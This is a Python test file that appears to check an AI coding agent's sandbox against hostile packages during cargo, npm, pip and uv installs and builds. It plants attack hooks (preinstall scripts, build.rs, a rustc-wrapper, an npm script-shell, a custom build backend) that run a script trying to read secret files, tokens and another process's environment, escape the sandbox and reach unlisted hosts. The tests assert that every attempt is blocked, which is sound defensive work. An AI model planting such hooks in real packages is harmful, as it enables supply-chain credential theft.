"""Packages that attack while they are installed or built, with the real managers, in the phase that
may fetch: what runs there is contained like all else. Dependencies are paths, so that no registry
is asked."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from autonomous_coder.models.execution import Command, FetchAccess, Limits, Mount, Network
from autonomous_coder.sandbox.sandbox import Sandbox
from sandbox_host import SECRET, Listening, real_program

pytestmark = [pytest.mark.anyio, pytest.mark.sandbox]

ATTACKER = """
import json, os, socket, sys
from urllib.parse import urlsplit
told = json.loads(bytes.fromhex(os.environ["TOLD"]))
done = []

def attempt(name, action):
    try:
        done.append([name, str(action())])
    except Exception as error:
        print("held:", name, repr(error))

def asked(line):
    place = urlsplit(os.environ["HTTPS_PROXY"])
    proxy = socket.create_connection((place.hostname, place.port), 5)
    proxy.sendall(line)
    answer = proxy.recv(12)
    if b" 200" not in answer:
        raise PermissionError(answer)
    return answer

host = told["outside"]
attempt("key", lambda: open(told["secret_file"]).read())
attempt("environment", lambda: os.environ["AC_TEST_TOKEN"])
attempt("other environment", lambda: open(f"/proc/{told['victim']}/environ", "rb").read())
attempt("written", lambda: open(host + "/written", "w").write("x"))
attempt("linked", lambda: (os.symlink(host, "away"), open("away/written", "w").write("x")))
attempt("service", lambda: socket.create_connection(("127.0.0.1", told["tcp_port"]), 2))
attempt("agent", lambda: socket.socket(socket.AF_UNIX).connect(told["unix_path"]))
attempt("direct", lambda: socket.create_connection(("192.0.2.1", 443), 2))
attempt("unlisted", lambda: asked(b"CONNECT unlisted.example:443 HTTP/1.1\\r\\n\\r\\n"))
attempt("loopback", lambda: asked(b"CONNECT 127.0.0.1:443 HTTP/1.1\\r\\n\\r\\n"))
attempt("signal", lambda: os.kill(told["victim"], 9))
attempt("tools", lambda: open(os.path.dirname(sys.executable) + "/tool", "w"))
attempt("poison", lambda: open(os.environ["SHARED"] + "/poison", "w").write("x"))
with open(os.environ["OUT"] + "/" + sys.argv[1], "w") as out:
    json.dump(done, out)
"""
BUILD_RS = """
fn main() {
    let python = std::env::var("PYTHON").unwrap();
    let home = std::env::var("PROJECT").unwrap();
    for name in ["build.rs"] {
        std::process::Command::new(&python)
            .arg(format!("{home}/attack.py")).arg(name).status().unwrap();
    }
}
"""
SHELL = '#!/bin/sh\n"$PYTHON" "$PROJECT/attack.py" {name} >&2\nexec {rest}\n'
BACKEND = """
import os, runpy, subprocess

def _attack(name):
    subprocess.run([os.environ["PYTHON"], os.environ["PROJECT"] + "/attack.py", name])

def get_requires_for_build_wheel(config_settings=None):
    _attack("backend")
    return []

def prepare_metadata_for_build_wheel(directory, config_settings=None):
    runpy.run_path("setup.py")
    raise SystemExit(1)

def build_wheel(directory, config_settings=None, metadata_directory=None):
    runpy.run_path("setup.py")
    raise SystemExit(1)
"""
SETUP_PY = """
import os, subprocess
subprocess.run([os.environ["PYTHON"], os.environ["PROJECT"] + "/attack.py", "setup.py"])
"""


@dataclass(frozen=True)
class Evil:
    """A project, the programs its manager needs, the script, and which attackers must have run."""

    name: str
    programs: tuple[str, ...]
    script: str
    ran: frozenset[str]
    files: dict[str, str]


EVILS = [
    Evil(
        "cargo",
        ("cargo", "rustc"),
        'export PATH="$(dirname {rustc}):$PATH"; {cargo} build --offline',
        frozenset({"build.rs", "rustc-wrapper"}),
        {
            "Cargo.toml": '[package]\nname = "top"\nversion = "0.1.0"\nedition = "2021"\n'
            '[dependencies]\nevil = { path = "evil" }\n',
            "src/lib.rs": "",
            "evil/Cargo.toml": '[package]\nname = "evil"\nversion = "0.1.0"\nedition = "2021"\n',
            "evil/src/lib.rs": "",
            "evil/build.rs": BUILD_RS,
            ".cargo/config.toml": '[build]\nrustc-wrapper = "./wrap.sh"\n',
            "wrap.sh": SHELL.format(name="rustc-wrapper", rest='"$@"'),
        },
    ),
    Evil(
        "npm",
        ("npm",),
        "{npm} install --no-audit --no-fund --ignore-scripts=false",
        frozenset({"preinstall", "own-preinstall", "script-shell"}),
        {
            "package.json": '{"name": "top", "version": "1.0.0", '
            '"scripts": {"preinstall": "\\"$PYTHON\\" \\"$PROJECT/attack.py\\" own-preinstall"}, '
            '"dependencies": {"evil": "file:evil"}}',
            "evil/package.json": '{"name": "evil", "version": "1.0.0", '
            '"scripts": {"preinstall": "\\"$PYTHON\\" \\"$PROJECT/attack.py\\" preinstall"}}',
            ".npmrc": "script-shell=${PROJECT}/shell.sh\ngit=${PROJECT}/shell.sh\n",
            "shell.sh": SHELL.format(name="script-shell", rest='/bin/sh "$@"'),
        },
    ),
    Evil(
        "pip",
        (),
        '"$PYTHON" -m pip download --no-deps --no-index --dest /tmp/got . ; true',
        frozenset({"backend", "setup.py"}),
        {
            "pyproject.toml": "[build-system]\nrequires = []\n"
            'build-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": BACKEND,
            "setup.py": SETUP_PY,
        },
    ),
    Evil(
        "uv",
        ("uv",),
        '{uv} pip install --offline --no-index --python "$PYTHON" --target /tmp/got . ; true',
        frozenset({"backend", "setup.py"}),
        {
            "pyproject.toml": "[build-system]\nrequires = []\n"
            'build-backend = "backend"\nbackend-path = ["."]\n'
            '[project]\nname = "evil"\ndynamic = ["version"]\n',
            "backend.py": BACKEND,
            "setup.py": SETUP_PY,
        },
    ),
]


def _tree(root: Path, evil: Evil) -> Path:
    tree = root / f"{evil.name}-project"
    for name, text in {**evil.files, "attack.py": ATTACKER}.items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_text(text, encoding="utf-8")
        if name.endswith(".sh"):
            (tree / name).chmod(0o755)
    return tree


def _program(sandbox: Sandbox) -> Callable[[str], str]:
    return lambda name: str(sandbox.tool(name)) if name == "uv" else real_program(name)


@pytest.mark.parametrize("level", ["L3", "L2"])
@pytest.mark.parametrize("evil", EVILS, ids=[evil.name for evil in EVILS])
async def test_what_a_package_runs_while_it_is_installed_is_contained(
    evil: Evil,
    level: str,
    sandbox: Sandbox,
    landlock: Sandbox,
    python: str,
    host: Listening,
    tmp_path: Path,
) -> None:
    chosen = sandbox if level == "L3" else landlock
    tree = _tree(tmp_path, evil)
    shared = tmp_path / "shared"
    shared.mkdir()
    program = _program(chosen)
    programs = {name: program(name) for name in evil.programs}
    shown = {
        mount.target: mount
        for path in (python, *programs.values())
        for mount in chosen.interpreter_mounts(Path(path))
    }
    script = evil.script
    for name, path in programs.items():
        script = script.replace(f"{{{name}}}", path)
    key = Path(host.machine.secret_file)
    before = {path: path.read_bytes() for path in (key, *sorted(tree.rglob("*"))) if path.is_file()}
    outcome = await chosen.run(
        Command(
            argv=("/bin/sh", "-c", script),
            tree=tree,
            env={
                "PYTHON": python,
                "PROJECT": "/project",
                "OUT": "/output",
                "SHARED": "/shared",
                "TOLD": host.machine.as_argument(),
            },
            mounts=(*shown.values(), Mount(shared, "/shared")),
            network=Network.FETCH,
            access=FetchAccess(hosts=frozenset({"listed.example"})),
            limits=Limits(timeout_s=90),
        )
    )
    assert evil.ran <= set(outcome.files), (outcome.stdout + outcome.stderr).decode()
    assert {name: outcome.files[name] for name in evil.ran} == dict.fromkeys(evil.ran, b"[]")
    assert SECRET.encode() not in outcome.stdout + outcome.stderr
    assert list(shared.iterdir()) == []
    assert not (Path(host.machine.outside) / "written").exists()
    assert host.process.poll() is None
    assert {path: path.read_bytes() for path in before} == before
    assert "unlisted.example" in outcome.refused_hosts
